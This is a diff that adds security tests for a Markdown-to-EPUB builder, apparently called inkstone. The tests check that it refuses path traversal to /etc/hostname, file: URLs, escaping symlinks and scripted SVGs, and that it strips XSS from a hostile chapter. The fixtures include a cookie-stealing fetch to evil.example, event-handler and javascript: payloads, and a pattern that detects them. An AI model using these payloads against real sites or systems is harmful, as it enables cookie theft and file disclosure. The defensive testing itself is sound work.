@@ -1,0 +1,130 @@
+/**
+ * A manuscript is untrusted input: nothing from the build machine leaks into a book, nothing
+ * runs, nothing reaches the network, and a broken manuscript fails clearly without touching
+ * earlier outputs.
+ */
+import { createHash } from 'node:crypto';
+import { existsSync, mkdirSync, readFileSync, readdirSync, symlinkSync, writeFileSync, cpSync, rmSync } from 'node:fs';
+import path from 'node:path';
+import { describe, expect, it } from 'vitest';
+import { inkstone, listFiles, openEpub, repoRoot, tempDir } from './helpers/cli.js';
+import { haveTools } from './helpers/tools.js';
+
+function manuscript(files: Record<string, string | Buffer>): string {
+  const dir = tempDir('inkstone-untrusted-');
+  for (const [name, content] of Object.entries(files)) {
+    mkdirSync(path.dirname(path.join(dir, name)), { recursive: true });
+    writeFileSync(path.join(dir, name), content);
+  }
+  return dir;
+}
+
+const secretFile = '/etc/hostname';
+const secret = existsSync(secretFile) ? readFileSync(secretFile) : Buffer.from('no-such-secret');
+const yaml = 'title: 书\nchapters: [a.md]\n';
+
+function expectRefused(dir: string, message: RegExp) {
+  const out = path.join(dir, 'out');
+  const run = inkstone(['build', dir, '--out', out, '--format', 'epub']);
+  expect(run.status).toBe(1);
+  expect(run.stderr).toMatch(message);
+  expect(run.stderr).not.toMatch(/^\s+at /m);
+  expect(listFiles(out)).toEqual([]);
+}
+
+describe('files outside the manuscript', () => {
+  it('refuses an image path that climbs out, naming file, line and path', () => {
+    const dir = manuscript({ 'book.yaml': yaml, 'a.md': '# 章\n\n正文。\n\n![x](../../../../etc/hostname)\n' });
+    expectRefused(dir, /a\.md:5:1: error: image “\.\.\/\.\.\/\.\.\/\.\.\/etc\/hostname” refused: it is outside the manuscript folder/);
+  });
+
+  it('fails with nothing written when the three come together', () => {
+    const dir = manuscript({
+      'book.yaml': yaml,
+      'a.md': '# 章\n\n<script>alert(1)</script>\n\n![x](../../../../etc/hostname)\n\n<img src="/etc/hostname">\n',
+    });
+    expectRefused(dir, /a\.md:5:1: error: image “\.\.\/\.\.\/\.\.\/\.\.\/etc\/hostname” refused/);
+  });
+
+  it('refuses an absolute image path in raw HTML', () => {
+    const dir = manuscript({ 'book.yaml': yaml, 'a.md': '# 章\n\n<img src="/etc/hostname">\n' });
+    expectRefused(dir, /a\.md:3:1: error: image “\/etc\/hostname” refused: an absolute path/);
+  });
+
+  it('refuses file: URLs for images and links', () => {
+    expectRefused(manuscript({ 'book.yaml': yaml, 'a.md': '# 章\n\n![x](file:///etc/hostname)\n' }), /a\.md:3:1: error: image “file:\/\/\/etc\/hostname” refused/);
+    expectRefused(manuscript({ 'book.yaml': yaml, 'a.md': '# 章\n\n[x](file:///etc/hostname)\n' }), /a\.md:3:1: error: link to “file:\/\/\/etc\/hostname” refused/);
+  });
+
+  it('refuses a symlink that points out of the manuscript', () => {
+    const dir = manuscript({ 'book.yaml': yaml, 'a.md': '# 章\n\n![x](images/innocent.png)\n' });
+    mkdirSync(path.join(dir, 'images'));
+    symlinkSync(secretFile, path.join(dir, 'images/innocent.png'));
+    expectRefused(dir, /a\.md:3:1: error: image “images\/innocent\.png” refused: it links to a file outside the manuscript folder/);
+  });
+
+  it('refuses a link that points out of the manuscript', () => {
+    expectRefused(manuscript({ 'book.yaml': yaml, 'a.md': '# 章\n\n[x](../../secret.md)\n' }), /a\.md:3:1: error: link to “\.\.\/\.\.\/secret\.md” refused: it points outside/);
+  });
+
+  it('refuses a remote image unless --allow-remote', () => {
+    expectRefused(manuscript({ 'book.yaml': yaml, 'a.md': '# 章\n\n![x](https://example.com/a.png)\n' }), /a\.md:3:1: error: remote image “https:\/\/example\.com\/a\.png” refused: .*--allow-remote/);
+  });
+
+  it('names a missing image', () => {
+    expectRefused(manuscript({ 'book.yaml': yaml, 'a.md': '# 章\n\n![图](images/none.png)\n' }), /a\.md:3:1: error: image “images\/none\.png” not found/);
+  });
+
+  it('refuses a file that is not an image, and an SVG with a script', () => {
+    expectRefused(manuscript({ 'book.yaml': yaml, 'a.md': '# 章\n\n![图](notes.txt)\n', 'notes.txt': 'hello' }), /error: “notes\.txt” is not a PNG, JPEG, GIF, WebP or SVG image/);
+    const svg = '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>';
+    expectRefused(manuscript({ 'book.yaml': yaml, 'a.md': '# 章\n\n![图](x.svg)\n', 'x.svg': svg }), /error: SVG image “x\.svg” refused: it has scripts/);
+  });
+
+  it('builds a hostile chapter without its scripts, and with nothing of the machine in it', async () => {
+    const hostile = [
+      '# 章',
+      '',
+      '正文<script>fetch("http://evil.example/"+document.cookie)</script>。',
+      '',
+      '<p onclick="alert(1)">点击</p>',
+      '',
+      '<iframe src="https://evil.example/"></iframe><object data="x.swf"></object>',
+      '',
+      '[链接](javascript:alert(1)) <a href="vbscript:x">另一个</a>',
+      '',
+      '<img src="x" onerror="alert(1)">',
+      '',
+    ].join('\n');
+    const dir = manuscript({ 'book.yaml': yaml, 'a.md': hostile.replace('<img src="x" onerror="alert(1)">', '') });
+    const out = path.join(dir, 'out');
+    const formats = haveTools('chromium') ? [] : ['--format', 'epub'];
+    const run = inkstone(['build', dir, '--out', out, ...formats]);
+    expect(run.status).toBe(0);
+    expect(run.stderr).toContain('html-unsafe');
+    const epub = await openEpub(path.join(out, 'book.epub'));
+    for (const name of epub.names.filter((n) => n.endsWith('.xhtml'))) {
+      const xhtml = await epub.text(name);
+      expect(xhtml, name).not.toMatch(/<script|<iframe|<object|onclick|onerror|javascript:|vbscript:|evil\.example/i);
+    }
+    for (const file of readdirSync(out)) expect(readFileSync(path.join(out, file)).includes(secret), file).toBe(false);
+  });
+});
+
+describe('failed builds leave earlier outputs alone', () => {
+  it('keeps a good book.epub byte for byte when chapter 7 of the next build has a missing image', () => {
+    const dir = tempDir('inkstone-atomic-');
+    cpSync(path.join(repoRoot, 'test/fixtures/long-book'), dir, { recursive: true });
+    const out = path.join(dir, 'dist');
+    const good = inkstone(['build', dir, '--out', out, '--format', 'epub']);
+    expect(good.status).toBe(0);
+    const before = createHash('sha256').update(readFileSync(path.join(out, 'book.epub'))).digest('hex');
+    writeFileSync(path.join(dir, 'ch07.md'), '# 印数\n\n![柱状图](images/gone.svg "历年印数")\n');
+    const bad = inkstone(['build', dir, '--out', out, '--format', 'epub']);
+    expect(bad.status).toBe(1);
+    expect(bad.stderr).toMatch(/ch07\.md:3:1: error: image “images\/gone\.svg” not found/);
+    expect(createHash('sha256').update(readFileSync(path.join(out, 'book.epub'))).digest('hex')).toBe(before);
+    expect(listFiles(out)).toEqual(['book.epub']);
+    rmSync(dir, { recursive: true, force: true });
+  });
+});
